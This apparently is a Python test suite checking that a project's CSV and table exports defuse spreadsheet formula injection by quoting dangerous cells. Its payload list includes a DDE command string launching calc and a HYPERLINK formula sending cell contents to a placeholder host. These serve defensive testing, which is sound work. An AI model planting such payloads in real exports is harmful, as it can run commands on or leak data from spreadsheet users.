"""No cell of what is exported can run in a spreadsheet, and no other cell is changed."""

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigscope.cli.output import print_table
from sigscope.ratings.scores import csv_text
from sigscope.search.export import as_csv
from sigscope.spreadsheets import csv_of, table_of

RUNS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1"]
RUNS += ["＝1+1", "\ufeff=1", "\x00=1", '=HYPERLINK("http://x/?"&A1)', "\u200b@x", "\tx", "-"]
HARMLESS = ["a cat", "", "1+1=2", "-5", "+1.5e-3", "a = b", "'=1", "x@y", "naïve", "a,b\nc;d"]


def rows(text, sep=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


@pytest.mark.parametrize("cell", RUNS)
@pytest.mark.parametrize("dtype", [object, "str", "category"])
def test_a_cell_that_would_run_is_a_text(cell, dtype):
    text = csv_of(pd.DataFrame({"caption": pd.Series([cell], dtype=dtype)}))
    assert rows(text)[1:] == [["'" + cell.replace("\r", "\n")]]


@pytest.mark.parametrize("cell", HARMLESS)
def test_any_other_stays_as_it_is(cell):
    assert rows(csv_of(pd.DataFrame({"caption": [cell], "n": [1]})))[1] == [cell, "1"]


@pytest.mark.parametrize("cell", [*RUNS, *HARMLESS[:6]])
def test_what_was_written_is_read_again(cell):
    expected = cell.replace("\r", "\n")
    assert table_of(csv_of(pd.DataFrame({"caption": [cell], "n": [1]})))["caption"][0] == expected


@pytest.mark.parametrize("cell", ["a\r=1+1", "a\r\n=1+1", "a\n=1+1", 'a"\r=1+1', "a,\r=1"])
def test_no_cell_begins_a_row_of_its_own(cell):
    assert len(rows(csv_of(pd.DataFrame({"a": [cell]})))) == 2


def test_names_of_columns_are_cells_too_and_numbers_are_none():
    table = pd.DataFrame({"=1+1": [-1.5], "n": [np.int64(-3)], "unknown": [None]})
    assert rows(csv_of(table)) == [["'=1+1", "n", "unknown"], ["-1.5", "-3", ""]]


@settings(deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
def test_no_text_begins_with_what_a_spreadsheet_runs(cells):
    cells = [cell.replace("\r", "").encode("utf-8", "ignore").decode() for cell in cells]
    for given_, found in zip(
        cells, rows(csv_of(pd.DataFrame({"a": cells, "b": 1})))[1:], strict=True
    ):
        assert found[0].removeprefix("'") == given_.removeprefix("'")
        beginning = found[0].lstrip()[:1]
        assert beginning not in set("=@") and (
            beginning not in set("+-") or re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", found[0].lower())
        )


def test_every_export_goes_by_it(capsys):
    table = pd.DataFrame({"id": ["=1+1"], "caption": ["@SUM(A1)"]})
    for text in (as_csv(table).decode("utf-8-sig"), csv_text(table)):
        assert rows(text)[1] == ["'=1+1", "'@SUM(A1)"]
    print_table(table)
    assert rows(capsys.readouterr().out, "\t")[1] == ["'=1+1", "'@SUM(A1)"]
